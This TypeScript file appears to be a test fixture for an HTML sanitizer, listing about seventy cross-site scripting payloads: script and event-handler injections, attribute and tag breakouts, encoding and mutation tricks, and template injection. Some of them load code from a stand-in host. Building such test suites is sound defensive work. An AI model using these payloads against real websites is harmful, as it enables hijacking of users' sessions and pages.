import { MORE_PAYLOADS } from './more-payloads.js';

/** What each payload would leave in the tree of a page if it came alive: the mark in an attribute or in the name of a tag. */
export const MARK = 'zqxss';
const RUN = 'window.__xss=1';

/** Ways in which text has become code on other sites: elements, breaking out of attributes and text fields, odd tags, encodings, templates, mutation. */
const FIRST: string[] = [
  `<script>${RUN};alert('${MARK}')</script>`, `<SCRIPT SRC=//${MARK}.example/x.js></SCRIPT>`, `<img src=${MARK} onerror=${RUN}>`, `<img/src="${MARK}"/onerror="${RUN}">`, `<svg onload=${RUN} id=${MARK}>`,
  `<svg><script id=${MARK}>${RUN}</script></svg>`, `<svg/onload=${RUN}//${MARK}`, `<body onload=${RUN} id=${MARK}>`, `<iframe src="javascript:${RUN}" name=${MARK}></iframe>`, `<iframe srcdoc="<script>parent.__xss=1</script>" name=${MARK}>`,
  `<object data="javascript:${RUN}" id=${MARK}>`, `<embed src="javascript:${RUN}" id=${MARK}>`, `<a href="javascript:${RUN}" id=${MARK}>x</a>`, `<a href="jav&#x09;ascript:${RUN}" id=${MARK}>x</a>`, `<a href=" &#14; javascript:${RUN}" id=${MARK}>x</a>`,
  `<details open ontoggle=${RUN} id=${MARK}>`, `<video src=${MARK} onerror=${RUN}>`, `<audio src=${MARK} onerror=${RUN}>`, `<input autofocus onfocus=${RUN} id=${MARK}>`, `<select autofocus onfocus=${RUN} id=${MARK}>`,
  `<textarea autofocus onfocus=${RUN} id=${MARK}>`, `<marquee onstart=${RUN} id=${MARK}>`, `<style id=${MARK}>@import'//${MARK}.example/x';</style>`, `<link rel=stylesheet href=//${MARK}.example/x>`, `<meta http-equiv=refresh content="0;url=javascript:${RUN}" id=${MARK}>`,
  `<base href=//${MARK}.example/>`, `<form action=//${MARK}.example/><button>x</button></form>`, `<button formaction=//${MARK}.example/ form=x>x</button>`, `<math><mi xlink:href="javascript:${RUN}" id=${MARK}>x</mi></math>`, `<template id=${MARK}><script>${RUN}</script></template>`,
  `"><img src=${MARK} onerror=${RUN}>`, `'><img src=${MARK} onerror=${RUN}>`, `"><script>${RUN}//${MARK}</script>`, `" onmouseover="${RUN}" id="${MARK}`, `' onmouseover='${RUN}' id='${MARK}`,
  `" autofocus onfocus=${RUN} id=${MARK} x="`, '` onfocus=' + `${RUN} autofocus id=${MARK}`, `</textarea><img src=${MARK} onerror=${RUN}>`, `</title><img src=${MARK} onerror=${RUN}>`, `</script><img src=${MARK} onerror=${RUN}>`,
  `</style><img src=${MARK} onerror=${RUN}>`, `</option></select><img src=${MARK} onerror=${RUN}>`, `</pre></code><img src=${MARK} onerror=${RUN}>`, `--><img src=${MARK} onerror=${RUN}>`, `]]><img src=${MARK} onerror=${RUN}>`,
  `<!--><img src=${MARK} onerror=${RUN}>-->`, `<noscript><p title="</noscript><img src=${MARK} onerror=${RUN}>">`, `<svg></p><style><a id="</style><img src=${MARK} onerror=${RUN}>">`, `<math><mtext><table><mglyph><style><img src=${MARK} onerror=${RUN}>`, `<xmp><p title="</xmp><img src=${MARK} onerror=${RUN}>">`,
  `&lt;img src=${MARK} onerror=${RUN}&gt;`, `&#60;img src=${MARK} onerror=${RUN}&#62;`, `%3Cimg src=${MARK} onerror=${RUN}%3E`, `\\u003cimg src=${MARK} onerror=${RUN}\\u003e`, `\uFF1Cimg src=${MARK} onerror=${RUN}\uFF1E`,
  `<im\u0000g src=${MARK} onerror=${RUN}>`, `<\u202Eimg src=${MARK} onerror=${RUN}>`, `<img\u000Csrc=${MARK}\u000Conerror=${RUN}>`, `<<img src=${MARK} onerror=${RUN}>>`, `<img src=${MARK} onerror\n=\n${RUN}>`,
  `{{constructor.constructor('${RUN}')()}} ${MARK}`, `{{{${MARK}}}}`, `\${${RUN}} ${MARK}`, `<%= ${RUN} %> ${MARK}`, `[${MARK}](javascript:${RUN})`,
  `![${MARK}](x"onerror="${RUN})`, `<${MARK} onclick=${RUN}>`, `<x:${MARK} xmlns:x="http://www.w3.org/1999/xhtml" onclick=${RUN}>`, `javascript:${RUN}//${MARK}`, `data:text/html,<script>${RUN}</script>${MARK}`,
];

/** `npm test` sends the first half; `npm run proof -- hostile` both, one after the other (PAYLOADS=more). */
export const PAYLOADS = process.env.PAYLOADS === 'more' ? MORE_PAYLOADS : FIRST;
export const PAYLOADS_IN_ALL = FIRST.length + MORE_PAYLOADS.length;
